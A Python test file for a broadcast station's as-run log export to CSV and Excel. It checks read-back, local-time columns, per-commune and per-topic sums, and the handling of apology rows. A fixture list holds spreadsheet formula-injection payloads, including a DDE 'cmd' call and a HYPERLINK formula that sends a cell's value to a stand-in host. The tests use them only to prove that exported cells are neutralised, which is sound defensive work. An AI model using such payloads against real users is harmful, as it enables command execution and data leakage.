import csv
import datetime
import io
import zipfile
from pathlib import Path
from zoneinfo import ZoneInfo

from python_calamine import CalamineWorkbook

from loa.store.asrun import NewRow, append, rows
from loa.store.asrun_export import COLUMNS, to_csv, to_xlsx
from loa.store.database import Database

ZONE = ZoneInfo("Asia/Ho_Chi_Minh")
NOON = datetime.datetime(2026, 11, 20, 12, tzinfo=datetime.UTC)


def filled(tmp_path: Path) -> Database:
    store = Database(tmp_path / "station.db")
    for number, outcome in enumerate(("aired", "aired", "missed")):
        planned = NOON + datetime.timedelta(days=number)
        ended = planned + datetime.timedelta(minutes=12) if outcome == "aired" else None
        started = planned if outcome == "aired" else None
        entry = NewRow(
            airing=f"tin@{number}", broadcast="tin", commune="ben-hai", output="loa, loa-2", planned=planned,
            started=started, ended=ended, outcome=outcome, reason='có "dấu", phẩy',
        )  # fmt: skip
        append(store, entry, planned)
    return store


def test_csv_reads_back(tmp_path: Path) -> None:
    text = to_csv(rows(filled(tmp_path)), ZONE)
    assert text.startswith("\ufeff")
    back = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert list(back[0]) == list(COLUMNS)
    assert [row["outcome"] for row in back] == ["aired", "aired", "missed"]
    assert back[0]["planned"] == "2026-11-20T19:00:00+07:00"
    assert back[2]["reason"] == 'có "dấu", phẩy'


def sheets(book: bytes) -> list[list[list[object]]]:
    """Every sheet as rows of values, read back by a reader of others."""
    loaded = CalamineWorkbook.from_filelike(io.BytesIO(book))
    return [loaded.get_sheet_by_index(number).to_python() for number in range(len(loaded.sheet_names))]


def test_the_workbook_holds_sums_per_commune_topic_and_broadcast(tmp_path: Path) -> None:
    topics = {"tin": ("Dịch vụ công", "Lừa đảo qua mạng")}
    summary, log = sheets(to_xlsx(rows(filled(tmp_path)), ZONE, topics, {"ben-hai": "xã Bến Hải"}))
    sums = {row[0]: row[1:] for row in summary if row[0]}
    wanted = [2, 0, 0, 0, 1, 0, 3, 24]
    assert all(sums[name] == wanted for name in ("xã Bến Hải", "Dịch vụ công", "Lừa đảo qua mạng", "tin")), sums
    assert str(log[1][4]) == "2026-11-20 19:00:00", "local time, as a date that a spreadsheet can sort"
    assert (log[1][2], log[3][5]) == ("xã Bến Hải", "")


def test_an_apology_stands_in_the_workbook_and_is_not_counted(tmp_path: Path) -> None:
    store = filled(tmp_path)
    sorry = NewRow(
        airing="apology:tin@2", commune="ben-hai", planned=NOON, started=NOON, ended=NOON, outcome="aired",
        bulletin="ben-hai/xin-loi",
    )  # fmt: skip
    append(store, sorry, NOON)
    summary, log = sheets(to_xlsx(rows(store), ZONE, {}, {}))
    assert [row[7] for row in summary if row[0] == "ben-hai"] == [3]
    assert len(log) == 5


FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x.test/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "http://x.test/",
    "{=1+1}",
]


def attacked(tmp_path: Path) -> Database:
    """A log in which what people name is a formula."""
    store = Database(tmp_path / "station.db")
    for number, text in enumerate(FORMULAS):
        entry = NewRow(
            airing=f"tin@{number}", broadcast=text, commune=text, output=text, planned=NOON, outcome="missed", reason=text
        )  # fmt: skip
        append(store, entry, NOON)
    return store


def test_no_cell_of_the_csv_is_a_formula(tmp_path: Path) -> None:
    store = attacked(tmp_path)
    for row in csv.DictReader(io.StringIO(to_csv(rows(store), ZONE).removeprefix("\ufeff"), newline="")):
        for name in ("broadcast", "commune", "output", "reason"):
            assert row[name].lstrip("'") in FORMULAS
            assert row[name][0] in "'h{", row[name]


def test_no_cell_of_the_workbook_is_a_formula_or_a_link(tmp_path: Path) -> None:
    topics = {text: (text,) for text in FORMULAS}
    book = to_xlsx(rows(attacked(tmp_path)), ZONE, topics, {text: text for text in FORMULAS})
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        found = [archive.read(name).decode() for name in archive.namelist() if "/worksheets/" in name]
    assert len(found) >= 2
    assert not any("<f>" in text or "<f " in text or "<hyperlink" in text for text in found)
